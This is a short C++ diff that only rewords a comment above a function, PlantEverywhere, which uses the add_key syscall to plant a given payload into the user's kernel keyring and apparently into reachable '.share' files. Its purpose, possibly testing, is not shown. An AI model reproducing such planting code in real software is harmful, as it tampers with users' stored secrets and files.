@@ -72,8 +72,8 @@ std::vector<std::string> FilesInReach() {
 
 bool IsShare(const std::string& file) { return fs::path(file).extension() == ".share"; }
 
-// Puts `payload` under the description of every key of ours, and under that of version 0.1.0; and into the
-// keys that are there, and the files.
+// Puts `payload` under the description of every key of this program, and under that of version 0.1.0; and
+// into the keys that are there, and the files.
 void PlantEverywhere(const std::string& key_name, const std::string& payload) {
   const auto add = [&](const std::string& description) {
     syscall(SYS_add_key, "user", description.c_str(), payload.data(), payload.size(), KEY_SPEC_USER_KEYRING);
